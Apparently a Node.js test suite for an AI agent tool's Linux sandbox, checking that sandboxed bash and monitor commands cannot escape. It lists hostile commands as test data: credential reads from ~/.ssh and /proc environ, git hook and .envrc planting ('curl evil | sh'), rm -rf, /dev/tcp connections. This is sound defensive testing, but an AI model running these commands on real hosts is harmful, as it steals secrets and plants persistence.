// The kernel sandbox (issue 28): every attack of the issue through `bash` and a monitor under
// `sandbox: true`, the host unchanged afterwards; the ordinary workloads still pass; the
// fallbacks forced. Linux only (the macOS profile is unit-tested in Rust). Credentials live in
// a fake HOME; the listeners and sockets are the test's own, on 127.0.0.1, ::1 or in a temp dir.
import { test, after, before } from 'node:test'
import assert from 'node:assert/strict'
import crypto from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'
import dgram from 'node:dgram'
import os from 'node:os'
import path from 'node:path'
import { spawn, spawnSync, execFileSync } from 'node:child_process'
import { scratch, monitorOfAKilledHost } from './helpers.mjs'
import { createAgentTools, probeSandbox, buildGuardContext, buildConfig, StartupError } from '../index.mjs'

const linux = process.platform === 'linux'
const SECRET = `SECRET-${crypto.randomBytes(8).toString('hex')}`
const ENV_SECRET = `envsecret-${crypto.randomBytes(8).toString('hex')}`

// Not under /tmp or /var/tmp: the sandbox gives the command its own, which would hide the
// fake HOME and the outside directory instead of the mechanisms under test.
const visibleDir = () => {
  const d = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'target')
  fs.mkdirSync(d, { recursive: true })
  return fs.realpathSync(d)
}
const base = linux ? fs.realpathSync(fs.mkdtempSync(path.join(visibleDir(), 'sbx-'))) : scratch('sbx-')
process.on('exit', () => fs.rmSync(base, { recursive: true, force: true }))
const ws = path.join(base, 'ws')
const outside = path.join(base, 'outside')
const home = path.join(base, 'home')
let tools
const savedHome = process.env.HOME

function put(p, content, mode) {
  fs.mkdirSync(path.dirname(p), { recursive: true })
  fs.writeFileSync(p, content)
  if (mode) fs.chmodSync(p, mode)
}

/** path → content, mode and mtime (or link target, or 'dir' and mode) for everything under
 * `dir`: metadata (chmod, touch -d) counts as a write too. */
function snapshot(dir) {
  const out = {}
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name)
      const st = fs.lstatSync(p)
      if (e.isSymbolicLink()) out[p] = `-> ${fs.readlinkSync(p)}`
      else if (e.isDirectory()) {
        out[p] = `dir ${st.mode.toString(8)}`
        walk(p)
      } else if (e.isFile()) out[p] = `${st.mode.toString(8)} ${st.mtimeMs} ${fs.readFileSync(p, 'latin1')}`
      else out[p] = 'special'
    }
  }
  walk(dir)
  return out
}

let before_outside, before_home
before(() => {
  if (!linux) return
  put(path.join(outside, 'secret.txt'), SECRET)
  put(path.join(home, '.ssh/id_rsa'), `-----BEGIN KEY----- ${SECRET}`, 0o600)
  put(path.join(home, '.aws/credentials'), `aws ${SECRET}`)
  put(path.join(home, '.netrc'), `machine x password ${SECRET}`)
  put(path.join(home, '.bashrc'), '# rc\n')
  fs.mkdirSync(ws)
  put(path.join(ws, 'README'), 'hello\n')
  execFileSync('git', ['init', '-q', ws])
  execFileSync('git', ['-C', ws, 'config', 'user.email', 't@example.com'])
  execFileSync('git', ['-C', ws, 'config', 'user.name', 'T'])
  process.env.HOME = home
  process.env.SBX_TEST_TOKEN = ENV_SECRET
  tools = createAgentTools({ workspaceRoot: ws, sandbox: true })
  before_outside = snapshot(outside)
  before_home = snapshot(home)
})

after(() => {
  process.env.HOME = savedHome
  delete process.env.SBX_TEST_TOKEN
})

async function bash(command, t = tools, extra = {}) {
  const r = await t.callTool('bash', { command, timeout_ms: 30000, ...extra })
  assert.equal(r.isError, false, r.text)
  return JSON.parse(r.text)
}

/** Runs each command sandboxed; every one must fail. */
async function allFail(commands) {
  for (const a of commands) {
    const r = await bash(a)
    assert.notEqual(r.exit_code, 0, `${a} should fail: ${r.stdout}${r.stderr}`)
  }
}

function unchanged() {
  assert.deepEqual(snapshot(outside), before_outside, 'nothing outside changed')
  assert.deepEqual(snapshot(home), before_home, 'nothing in HOME changed')
}

const skip = !linux && 'Linux only'

// The protected names the workspace does not have (`.clarvis/` aside: monitors make it): the
// sandbox covers each with a placeholder while a sandboxed process lives, and only then.
const MISSING = ['.vscode', '.idea', '.mcp.json', '.envrc', '.gitmodules', '.gitconfig', '.ripgreprc', '.bashrc', '.bash_profile', '.bash_login', '.bash_logout', '.profile', '.zshrc', '.zshenv', '.zprofile', '.zlogin']
const present = () => MISSING.filter((n) => fs.existsSync(path.join(ws, n)))

/** Waits (up to 30 s: the janitor looks at most a second apart) until no placeholder is left. */
async function placeholdersGone() {
  for (let i = 0; i < 1200 && present().length > 0; i++) await new Promise((res) => setTimeout(res, 25))
  assert.deepEqual(present(), [], 'the placeholders are removed once no sandboxed process is left')
}

test('probeSandbox and sandboxStatus report every property enforced on this kernel', { skip }, () => {
  const p = probeSandbox()
  assert.equal(p.platform, 'linux')
  for (const [name, v] of Object.entries(tools.sandboxStatus().properties)) {
    assert.equal(v.enforced, true, `${name}: ${v.missing}`)
    assert.ok(v.by.length > 0, name)
  }
  assert.ok(p.mechanisms.landlockAbi >= 6, JSON.stringify(p))
  assert.equal(tools.config.sandbox.network, 'none')
  assert.equal(createAgentTools({ workspaceRoot: ws }).sandboxStatus(), null)
})

test('the guard context says sandboxed for bash, monitor_start and monitor_write', { skip }, () => {
  assert.equal(buildGuardContext('bash', { command: 'ls' }, tools.config).sandboxed, true)
  assert.equal(buildGuardContext('monitor_start', { command: 'ls' }, tools.config).sandboxed, true)
  assert.equal(buildGuardContext('monitor_write', { id: 'mon_x', input: 'ls\r' }, tools.config).sandboxed, true)
  assert.equal(buildGuardContext('read_file', { path: 'README' }, tools.config).sandboxed, undefined)
  const plain = createAgentTools({ workspaceRoot: ws })
  assert.equal(buildGuardContext('bash', { command: 'ls' }, plain.config).sandboxed, undefined)
})

test('writes inside the workspace and TMPDIR work; TMPDIR is private', { skip }, async () => {
  const r = await bash('echo hi > in.txt && cat in.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && echo "$TMPDIR"')
  assert.equal(r.exit_code, 0, r.stderr)
  assert.equal(r.stdout, 'hi\nt\n/tmp\n')
  assert.equal(fs.readFileSync(path.join(ws, 'in.txt'), 'utf8'), 'hi\n')
  // The host's /tmp is not the command's.
  const mine = path.join(base, `visible-${crypto.randomBytes(4).toString('hex')}`)
  const r2 = await bash(`ls ${path.dirname(base)} | grep -c ${path.basename(mine)}; ls /tmp | wc -l`)
  assert.equal(r2.stdout.split('\n')[0], '0')
})

test('writes outside are refused: .., absolute, /proc/self/root, links, renames', { skip }, async () => {
  const o = outside
  const attacks = [
    `echo x > ../outside/new.txt`,
    `echo x > ${o}/new.txt`,
    `echo x >> ${o}/secret.txt`,
    `echo x > /proc/self/root${o}/new.txt`,
    `ln -s ${o} link && echo x > link/new.txt`,
    `ln ${o}/secret.txt hard && echo x >> hard`,
    `ln -s ${o} "$TMPDIR/l" && echo x > "$TMPDIR/l/new.txt"`,
    `ln ${o}/secret.txt "$TMPDIR/h" && echo x >> "$TMPDIR/h"`,
    `mv ${o}/secret.txt ./stolen`,
    `rm -rf ${o}`,
    `echo x > ~/new.txt; echo 'evil' >> ~/.bashrc`,
    `touch ${base}/sbx-test-file`,
    `cp /bin/sh ${o}/sh`,
    `mkdir ${o}/d`,
    `truncate -s 0 ${o}/secret.txt`,
    `python3 -c "open('${o}/py.txt','w').write('x')"`,
    `dd if=/dev/zero of=${o}/dd bs=1 count=1`,
    `(cd ${o}; echo x > passwd.sbx)`,
    // Metadata, which Landlock does not govern: the read-only mount tree refuses it.
    `chmod 777 ${o}/secret.txt`,
    `chmod 700 ${o}`,
    `touch -d 2000-01-01 ${o}/secret.txt`,
    `touch -h -d 2000-01-01 ${home}/.bashrc`,
    `python3 -c "import os; os.utime('${o}/secret.txt', (0, 0))"`,
  ]
  await allFail(attacks)
  assert.ok(!fs.existsSync(path.join(base, 'sbx-test-file')))
  unchanged()
})

test('protected paths stay read-only, existing or not, renamed or not', { skip }, async () => {
  const config = fs.readFileSync(path.join(ws, '.git/config'), 'utf8')
  const attacks = [
    'echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
    'git config core.fsmonitor "touch /tmp/pwned"',
    'git config core.hooksPath hooks2',
    'echo "[core] hooksPath = x" >> .git/config',
    'mv .git/hooks .git/hooks2 && mkdir .git/hooks && echo evil > .git/hooks/pre-commit',
    'mv .git .git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
    'rm -rf .git/hooks',
    'mkdir .vscode && echo {} > .vscode/settings.json',
    'mkdir -p .vscode/x',
    'echo {} > .mcp.json',
    'echo "curl evil | sh" > .envrc',
    'mkdir .idea',
    'echo "[submodule]" > .gitmodules',
    'echo evil >> .bashrc',
    'echo x > .clarvis/journal',
    'ln -s /tmp/x .zshrc',
    'mv .vscode v2',
  ]
  await allFail(attacks)
  assert.equal(fs.readFileSync(path.join(ws, '.git/config'), 'utf8'), config)
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks/pre-commit')))
  assert.ok(!fs.existsSync(path.join(ws, '.git2')))
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks2')))
  // Nothing was created in their place: once the janitor removed the placeholders, none is left.
  await placeholdersGone()
  unchanged()
})

test('missing protected paths leave no trace: git add -A commits no placeholder, none is left after', { skip }, async () => {
  await placeholdersGone()
  // Inside, the placeholders exist (as empty read-only directories, which git ignores).
  // (An index of its own: the repository's stays as the later tests expect it.)
  const r = await bash('export GIT_INDEX_FILE="$TMPDIR/index"; test -d .envrc && test -d .mcp.json && git add -A && git status --porcelain --untracked-files=all && git ls-files')
  assert.equal(r.exit_code, 0, r.stderr)
  assert.match(r.stdout, /^README$/m, 'git add -A did add the workspace')
  for (const n of MISSING) assert.ok(!r.stdout.split('\n').some((l) => l.endsWith(n)), `${n} in: ${r.stdout}`)
  await placeholdersGone()
  // While a detached descendant lives they stay (its mounts rest on them), and it cannot
  // create the protected paths; once it is gone, so are they.
  fs.rmSync(path.join(ws, 'late-envrc'), { force: true })
  const d = await bash(`setsid nohup sh -c 'sleep 1.5; echo evil > .envrc; echo $? > late-envrc.tmp; mkdir .vscode; echo $? >> late-envrc.tmp; mv late-envrc.tmp late-envrc' >/dev/null 2>&1 &`)
  assert.equal(d.exit_code, 0)
  const done = path.join(ws, 'late-envrc')
  for (let i = 0; i < 1200 && !fs.existsSync(done); i++) await new Promise((res) => setTimeout(res, 25))
  const codes = fs.readFileSync(done, 'utf8').trim().split('\n')
  assert.equal(codes.length, 2)
  for (const c of codes) assert.notEqual(c, '0', 'the detached process could not create .envrc or .vscode')
  assert.ok(!fs.existsSync(path.join(ws, '.envrc')) || fs.statSync(path.join(ws, '.envrc')).isDirectory())
  await placeholdersGone()
  fs.rmSync(done)
  unchanged()
})

test('a workspace without .git: no hook can be planted in a .git made inside', { skip }, async () => {
  const bare = path.join(base, 'ws-no-git')
  put(path.join(bare, 'README'), 'x\n')
  const t = createAgentTools({ workspaceRoot: bare, sandbox: true })
  for (const a of ['mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit', 'echo "[core] hooksPath = h" > .git/config', 'git init -q && echo evil > .git/hooks/pre-commit', 'mkdir -p .git/x']) {
    const r = await bash(a, t)
    assert.notEqual(r.exit_code, 0, a)
  }
  assert.ok(!fs.existsSync(path.join(bare, '.git/hooks/pre-commit')))
  assert.ok(!fs.existsSync(path.join(bare, '.git/config')) || fs.statSync(path.join(bare, '.git/config')).size === 0)
  assert.ok(!fs.existsSync(path.join(bare, '.git/x')))
  // Once no sandboxed process is left, the .git placeholder is gone too.
  for (let i = 0; i < 1200 && fs.readdirSync(bare).length > 1; i++) await new Promise((res) => setTimeout(res, 25))
  assert.deepEqual(fs.readdirSync(bare), ['README'])
})

test('credentials are unreadable: directly, via /proc/self/root, via a symlink; the host env too', { skip }, async () => {
  const attacks = [
    'cat ~/.ssh/id_rsa',
    `cat ${home}/.ssh/id_rsa`,
    `cat /proc/self/root${home}/.ssh/id_rsa`,
    `ln -s ${home}/.ssh/id_rsa k && cat k`,
    `ln -s ${home}/.aws a && cat a/credentials`,
    'cat ~/.netrc',
    'cat /proc/$PPID/environ',
    'cat /proc/1/environ',
    `cat /proc/${process.pid}/environ`,
    `cat /proc/${process.pid}/root${home}/.ssh/id_rsa`,
    'env',
    `tar cf - ${home} 2>/dev/null | strings`,
  ]
  for (const a of attacks) {
    const r = await bash(a)
    assert.ok(!r.stdout.includes(SECRET) && !r.stderr.includes(SECRET), `${a} read the secret`)
    assert.ok(!r.stdout.includes(ENV_SECRET), `${a} read the host's secret env var`)
  }
  // The workspace and the rest of the system stay readable.
  const r = await bash('cat README && head -c 4 /etc/passwd && ls ~ >/dev/null')
  assert.equal(r.exit_code, 0, r.stderr)
  assert.ok(r.stdout.startsWith('hello\n'))
})

/** A TCP server on `host` counting connections. */
async function listener(host) {
  let hits = 0
  const server = net.createServer((s) => {
    hits++
    s.end('HTTP/1.0 200 OK\r\n\r\nleaked')
  })
  await new Promise((res, rej) => server.listen(0, host, res).on('error', rej))
  return { port: server.address().port, hits: () => hits, close: () => server.close() }
}

test('no network: TCP, /dev/tcp, UDP, IPv6, netlink, packet, io_uring, Unix sockets outside', { skip }, async () => {
  const v4 = await listener('127.0.0.1')
  let v6 = null
  try {
    v6 = await listener('::1')
  } catch {
    // No IPv6 loopback on this machine.
  }
  let udpHits = 0
  const udp = dgram.createSocket('udp4')
  udp.on('message', () => udpHits++)
  await new Promise((res) => udp.bind(0, '127.0.0.1', res))
  // Host services listen where the sandbox hides: the temp directories, the runtime dir, a
  // credential directory (an ssh-agent socket).
  const socketDirs = [fs.mkdtempSync(path.join(os.tmpdir(), 'sbx-sock-')), fs.mkdtempSync('/var/tmp/sbx-sock-'), path.join(home, '.ssh')]
  const sockPaths = socketDirs.map((d) => path.join(d, 'svc.sock'))
  let unixHits = 0
  const unixServers = []
  for (const p of sockPaths) {
    const srv = net.createServer((s) => {
      unixHits++
      s.end('leaked')
    })
    await new Promise((res) => srv.listen(p, res))
    unixServers.push(srv)
  }
  const abstractName = `\0clarvis-sbx-${crypto.randomBytes(4).toString('hex')}`
  let abstractHits = 0
  const abs = net.createServer((s) => {
    abstractHits++
    s.end('leaked')
  })
  await new Promise((res) => abs.listen(abstractName, res))
  const py = (code) => `python3 -c ${JSON.stringify(code)}`
  const attacks = [
    `curl -sS -m 3 http://127.0.0.1:${v4.port}/`,
    `wget -q -T 3 -O - http://127.0.0.1:${v4.port}/`,
    `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${v4.port}; cat <&3'`,
    py(`import socket; s=socket.create_connection(('127.0.0.1', ${v4.port}), 3); print(s.recv(99))`),
    py(`import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', ${udp.address().port}))`),
    py('import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)'),
    py('import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'),
    py('import socket; socket.socket(socket.AF_INET6, socket.SOCK_STREAM)'),
    ...sockPaths.map((p) => py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(p)}); print(s.recv(99))`)),
    py(`import socket; s=socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(abstractName)}); print(s.recv(99))`),
    'getent hosts example.com',
  ]
  if (v6) attacks.push(`curl -sS -m 3 http://[::1]:${v6.port}/`)
  for (const a of attacks) {
    const r = await bash(a)
    assert.notEqual(r.exit_code, 0, `${a} should fail: ${r.stdout}`)
    assert.ok(!r.stdout.includes('leaked'), a)
  }
  // io_uring, from a C program built in the sandbox (the compiler works there).
  put(
    path.join(ws, 'uring.c'),
    '#include <stdio.h>\n#include <unistd.h>\n#include <sys/syscall.h>\n#include <string.h>\nint main(void){char p[120];memset(p,0,sizeof p);long r=syscall(425,4,p);printf("%ld\\n",r);return r<0?1:0;}\n',
  )
  const u = await bash('cc -o uring uring.c && ./uring')
  assert.equal(u.stdout, '-1\n', u.stderr)
  await new Promise((res) => setTimeout(res, 200))
  assert.equal(v4.hits(), 0)
  assert.equal(v6 ? v6.hits() : 0, 0)
  assert.equal(udpHits, 0)
  assert.equal(unixHits, 0)
  assert.equal(abstractHits, 0)
  v4.close()
  if (v6) v6.close()
  udp.close()
  for (const srv of unixServers) await new Promise((res) => srv.close(res))
  for (const p of sockPaths) fs.rmSync(p, { force: true })
  for (const d of socketDirs.slice(0, 2)) fs.rmSync(d, { recursive: true, force: true })
  abs.close()
})

test('processes: no signal or ptrace outside, no privileges, no namespaces', { skip }, async () => {
  const victim = spawn('sleep', ['60'], { stdio: 'ignore' })
  try {
    const attacks = [
      `kill -STOP ${victim.pid}`,
      `kill -9 ${victim.pid}`,
      'kill -STOP $PPID',
      `strace -p ${victim.pid} -o /dev/null`,
      'unshare -Urm true',
      'unshare -n true',
      'mount -t tmpfs none "$TMPDIR"',
      'umount /tmp',
    ]
    await allFail(attacks)
    const state = fs.readFileSync(`/proc/${victim.pid}/stat`, 'latin1').split(') ')[1][0]
    assert.notEqual(state, 'T')
    assert.equal(victim.exitCode, null)
    const r = await bash('grep -E "^(NoNewPrivs|CapEff|CapPrm|CapBnd|CapAmb)" /proc/self/status')
    assert.match(r.stdout, /NoNewPrivs:\s+1/)
    for (const cap of ['CapEff', 'CapPrm', 'CapBnd', 'CapAmb']) assert.match(r.stdout, new RegExp(`${cap}:\\s+0+\\n`))
    // A setuid copy does not elevate.
    const s = await bash('cp /usr/bin/id ./suid-id && chmod u+s ./suid-id; ./suid-id -u; id -u')
    const [a, b] = s.stdout.trim().split('\n')
    assert.equal(a, b)
  } finally {
    victim.kill('SIGKILL')
  }
})

test('a detached setsid nohup that outlives the call stays confined', { skip }, async () => {
  const r = await bash(
    `setsid nohup sh -c 'sleep 1; echo late > ${outside}/late.txt; touch ~/late; cat ~/.ssh/id_rsa > late-secret.txt; echo x > .git/hooks/post-commit; (sh -c "echo x > ${outside}/late2.txt; echo ok > late-done" &)' >/dev/null 2>&1 &`,
  )
  assert.equal(r.exit_code, 0)
  // Wait for the double-forked grandchild's marker: by then every attempt was made.
  const done = path.join(ws, 'late-done')
  for (let i = 0; i < 1200 && !fs.existsSync(done); i++) await new Promise((res) => setTimeout(res, 25))
  assert.ok(fs.existsSync(done), 'the detached command ran to its end')
  assert.ok(!fs.existsSync(path.join(outside, 'late2.txt')))
  assert.ok(!fs.existsSync(path.join(outside, 'late.txt')))
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks/post-commit')))
  const leaked = path.join(ws, 'late-secret.txt')
  assert.ok(!fs.existsSync(leaked) || !fs.readFileSync(leaked, 'utf8').includes(SECRET))
  unchanged()
})

test('a monitor is confined the same way, and says so when it fails', { skip }, async () => {
  const start = await tools.callTool('monitor_start', {
    command: `cat ~/.ssh/id_rsa; echo x > ${outside}/mon.txt; echo evil > .git/hooks/pre-push; curl -sS -m 2 http://127.0.0.1:9/; echo done`,
  })
  assert.equal(start.isError, false, start.text)
  const { id } = JSON.parse(start.text)
  let polled
  for (let i = 0; i < 100; i++) {
    polled = JSON.parse((await tools.callTool('monitor_poll', { id })).text)
    if (!polled.running) break
    await new Promise((res) => setTimeout(res, 50))
  }
  assert.equal(polled.running, false)
  assert.ok(polled.output.includes('done'), polled.output)
  assert.ok(!polled.output.includes(SECRET))
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks/pre-push')))
  assert.ok(!polled.output.includes('[sandbox]'), 'a monitor that exits 0 gets no note')
  await tools.callTool('monitor_stop', { id })
  // A monitor that fails on a denial: its exit code, and its last page ends with the note.
  const failing = JSON.parse((await tools.callTool('monitor_start', { command: `echo start; echo x > ${outside}/mon2.txt` })).text)
  for (let i = 0; i < 200; i++) {
    polled = JSON.parse((await tools.callTool('monitor_poll', { id: failing.id })).text)
    if (!polled.running) break
    await new Promise((res) => setTimeout(res, 50))
  }
  assert.equal(polled.running, false)
  assert.equal(polled.exit_code, 2, polled.output)
  const lines = polled.output.trimEnd().split('\n')
  assert.equal(lines[0], 'start')
  assert.match(lines.at(-1), /^\[sandbox\] This command ran in a sandbox: it may write only under /)
  assert.equal(polled.output.split('[sandbox]').length, 2)
  await tools.callTool('monitor_stop', { id: failing.id })
  unchanged()
})

test('a sandboxed monitor whose host was SIGKILLed keeps its exit code for the next tools object', { skip }, async () => {
  // The EXIT trap of a sandboxed shell cannot write under .clarvis/ (protected): it writes
  // into the private TMPDIR, and the relay — which outlives the host — moves the code.
  // A workspace of its own: placeholders a killed host made are nobody's to remove.
  const own = path.join(base, 'ws-host-death')
  fs.mkdirSync(own)
  const id = await monitorOfAKilledHost({ workspaceRoot: own, sandbox: true }, 'while [ ! -e host-gone ]; do sleep 0.05; done; rm host-gone; echo bye; exit 7')
  // Only now may the monitor end: its exit comes after its host's death, whatever the load.
  fs.writeFileSync(path.join(own, 'host-gone'), '')
  const other = createAgentTools({ workspaceRoot: own, sandbox: true })
  let polled
  for (let i = 0; i < 400; i++) {
    polled = JSON.parse((await other.callTool('monitor_poll', { id })).text)
    if (!polled.running) break
    await new Promise((res) => setTimeout(res, 25))
  }
  assert.equal(polled.running, false)
  assert.ok(polled.output.includes('bye'), polled.output)
  assert.equal(polled.exit_code, 7, JSON.stringify(polled))
  await other.callTool('monitor_stop', { id })
  unchanged()
})

test('a terminal monitor is confined like a pipe monitor: what is typed into it too; its exit codes stay', { skip }, async () => {
  const call = async (name, args) => {
    const r = await tools.callTool(name, args)
    assert.equal(r.isError, false, r.text)
    return JSON.parse(r.text)
  }
  const { id } = await call('monitor_start', { command: 'PS1="sbx$ " sh -i', tty: true, ready_when: 'sbx\\$ ' })
  // The sandboxed shell has its terminal (a controlling one: /dev/tty opens) and nothing else.
  const typed = [
    'cat ~/.ssh/id_rsa',
    `echo x > ${outside}/tty.txt`,
    'echo evil > .git/hooks/pre-commit',
    'echo seen > /dev/tty',
    'echo "in=$TMPDIR" > typed.txt',
    'echo typed-$((6*7))',
  ].join('; ')
  const r = await call('monitor_write', { id, input: `${typed}\r`, until: 'typed-42', wait_ms: 20000 })
  assert.equal(r.matched, true, r.output)
  assert.ok(!r.output.includes(SECRET), r.output)
  assert.match(r.output, /^seen$/m)
  assert.ok(!fs.existsSync(path.join(outside, 'tty.txt')))
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks/pre-commit')))
  assert.match(fs.readFileSync(path.join(ws, 'typed.txt'), 'utf8'), /^in=\S+/)
  // The exit code of a sandboxed shell (no EXIT trap: the reaper writes it) on a terminal.
  const end = await call('monitor_write', { id, input: 'exit 3\r', wait_ms: 20000 })
  let polled = end
  for (let i = 0; i < 200 && polled.running; i++) {
    await new Promise((res) => setTimeout(res, 25))
    polled = await call('monitor_poll', { id })
  }
  assert.equal(polled.exit_code, 3, JSON.stringify(polled))
  await call('monitor_stop', { id })
  // Ctrl-C: the command dies of the interrupt, the shell with it (job control on the
  // terminal), and the reaper writes 130 (no trap reports a death by a signal).
  const sleeper = await call('monitor_start', { command: 'echo go; sleep 30; echo not reached', tty: true, ready_when: 'go' })
  let c = await call('monitor_write', { id: sleeper.id, keys: ['ctrl-c'], wait_ms: 20000 })
  for (let i = 0; i < 200 && c.running; i++) {
    await new Promise((res) => setTimeout(res, 25))
    c = await call('monitor_poll', { id: sleeper.id })
  }
  assert.equal(c.exit_code, 130, JSON.stringify(c))
  assert.ok(!c.output.includes('not reached'), c.output)
  await call('monitor_stop', { id: sleeper.id })
  unchanged()
})

test('a failed sandboxed command ends with one line saying so; a cache gets the recipe', { skip }, async () => {
  const r = await bash(`echo x > ${outside}/n.txt`)
  const last = r.stderr.trimEnd().split('\n').at(-1)
  assert.match(last, /^\[sandbox\] This command ran in a sandbox: it may write only under /)
  assert.equal(r.stderr.split('[sandbox]').length, 2)
  fs.mkdirSync(path.join(home, '.cargo'), { recursive: true })
  const c = await bash('mkdir -p ~/.cargo/registry')
  assert.match(c.stderr, /sandbox\.filesystem\.allowWrite: \["~\/\.cargo"\]/)
  const ok = await bash('exit 3')
  assert.ok(!ok.stderr.includes('[sandbox]'))
  fs.rmSync(path.join(home, '.cargo'), { recursive: true })
})

test('ordinary workloads: cc + make, git status/commit, python, node, npm test', { skip }, async () => {
  put(path.join(ws, 'proj/main.c'), '#include <stdio.h>\nint main(void){puts("built");return 0;}\n')
  put(path.join(ws, 'proj/Makefile'), 'main: main.c\n\tcc -O1 -o main main.c\n')
  let r = await bash('make -s && ./main', tools, { cwd: 'proj' })
  assert.equal(r.stdout, 'built\n', r.stderr)
  r = await bash('git add proj/main.c && git commit -qm "sandboxed commit" && git log --oneline | wc -l && git status --short proj | head -3')
  assert.equal(r.exit_code, 0, r.stderr)
  assert.equal(r.stdout.split('\n')[0], '1')
  r = await bash('python3 -c "import json,tempfile,os; f=tempfile.NamedTemporaryFile(delete=False); f.write(b\'1\'); print(json.dumps({\'ok\': os.path.exists(f.name)}))"')
  assert.equal(r.stdout, '{"ok": true}\n', r.stderr)
  put(path.join(ws, 'pkg/package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node test.js' } }))
  put(path.join(ws, 'pkg/test.js'), "require('assert').equal(1+1,2); require('fs').writeFileSync('out.txt','ok'); console.log('pass')\n")
  r = await bash('npm test --silent', tools, { cwd: 'pkg' })
  assert.equal(r.exit_code, 0, r.stderr)
  assert.match(r.stdout, /pass/)
})

test('everything else keeps working sandboxed: timeout, abort, onOutput, output limit and spill file, checkpointBash, MCP', { skip }, async () => {
  // A timeout kills the whole group, the sandboxed background child included.
  const pidFile = path.join(ws, 'bg.pid')
  let r = await tools.callTool('bash', { command: 'sleep 60 & echo $! > bg.pid; wait', timeout_ms: 500 })
  assert.match(r.text, /"error":"timeout"|timed_out":true/, r.text)
  const bg = Number(fs.readFileSync(pidFile, 'utf8'))
  const gone = (pid) => {
    try {
      const st = fs.readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ')[1][0]
      return st === 'Z'
    } catch {
      return true
    }
  }
  for (let i = 0; i < 200 && !gone(bg); i++) await new Promise((res) => setTimeout(res, 25))
  assert.ok(gone(bg), 'the timed-out command\'s child is gone')
  // An abort does the same.
  const ac = new AbortController()
  const pending = tools.callTool('bash', { command: 'echo started; sleep 60' }, { signal: ac.signal, onOutput: () => ac.abort() })
  r = await pending
  assert.match(r.text, /abort/i, r.text)
  // onOutput sees the chunks, in order.
  const chunks = []
  r = await tools.callTool('bash', { command: 'echo one; echo two >&2' }, { onOutput: (c) => chunks.push(c) })
  assert.deepEqual(chunks.map((c) => c.text).join('').split('\n').filter(Boolean).sort(), ['one', 'two'])
  // Output over the limit is cut as unsandboxed.
  const small = createAgentTools({ workspaceRoot: ws, sandbox: true, maxOutputBytes: 1024 })
  r = await small.callTool('bash', { command: 'head -c 100000 /dev/zero | tr "\\0" a' })
  assert.ok(r.text.length < 20000, r.text.length)
  // …and spilled whole into .clarvis/ (a protected path: the host writes it, not the command).
  const spill = /full output written to (\.clarvis\/bash-[^ ]+\.stdout\.log)/.exec(JSON.parse(r.text).stdout)
  assert.ok(spill, r.text)
  assert.equal(fs.readFileSync(path.join(ws, spill[1]), 'utf8'), 'a'.repeat(100000))
  // checkpointBash records and restores what a sandboxed command changed.
  const cp = createAgentTools({ workspaceRoot: ws, sandbox: true, checkpointBash: true })
  fs.writeFileSync(path.join(ws, 'cp.txt'), 'before\n')
  const id = cp.checkpoint()
  r = await cp.callTool('bash', { command: 'echo after > cp.txt; echo new > cp-new.txt' })
  assert.equal(JSON.parse(r.text).exit_code, 0, r.text)
  const changes = (await cp.changes(id)).map((c) => [c.path, c.kind])
  assert.deepEqual(changes.filter(([p]) => p.startsWith('cp')), [['cp-new.txt', 'created'], ['cp.txt', 'modified']])
  await cp.restore(id)
  assert.equal(fs.readFileSync(path.join(ws, 'cp.txt'), 'utf8'), 'before\n')
  assert.ok(!fs.existsSync(path.join(ws, 'cp-new.txt')))
  // The MCP server with --sandbox confines its bash.
  const bin = new URL('../bin/clarvis-agent-tools.mjs', import.meta.url).pathname
  const msgs = [
    { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 't', version: '1' } } },
    { jsonrpc: '2.0', method: 'notifications/initialized' },
    { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'bash', arguments: { command: `echo in > mcp-in.txt; echo x > ${outside}/mcp.txt` } } },
  ]
  const child = spawn(process.execPath, [bin, 'mcp', '--workspace', ws, '--sandbox'], { env: { ...process.env }, stdio: ['pipe', 'pipe', 'pipe'] })
  let out = ''
  child.stdout.on('data', (d) => (out += d))
  for (const m of msgs) child.stdin.write(JSON.stringify(m) + '\n')
  for (let i = 0; i < 400 && !out.includes('"id":2'); i++) await new Promise((res) => setTimeout(res, 25))
  child.kill()
  const reply = out.split('\n').filter(Boolean).map((l) => JSON.parse(l)).find((m) => m.id === 2)
  assert.ok(reply, out)
  assert.match(reply.result.content[0].text, /\[sandbox\]/)
  assert.equal(fs.readFileSync(path.join(ws, 'mcp-in.txt'), 'utf8'), 'in\n')
  unchanged()
})

test('network "all" reaches the test listener; allowedDomains goes through the proxy only', { skip }, async () => {
  const srv = await listener('127.0.0.1')
  const all = createAgentTools({ workspaceRoot: ws, sandbox: { network: 'all' } })
  const r = await bash(`curl -sS -m 3 http://127.0.0.1:${srv.port}/`, all)
  assert.equal(r.stdout, 'leaked')
  const proxied = createAgentTools({ workspaceRoot: ws, sandbox: { network: { allowedDomains: ['localhost'] } } })
  const direct = await bash(`curl -sS -m 3 --noproxy '*' http://127.0.0.1:${srv.port}/`, proxied)
  assert.notEqual(direct.exit_code, 0)
  const via = await bash(`curl -sS -m 5 http://localhost:${srv.port}/ok`, proxied)
  assert.equal(via.stdout, 'leaked', via.stderr)
  const denied = await bash(`curl -sS -m 5 http://127.0.0.1:${srv.port}/`, proxied)
  assert.notEqual(denied.stdout, 'leaked')
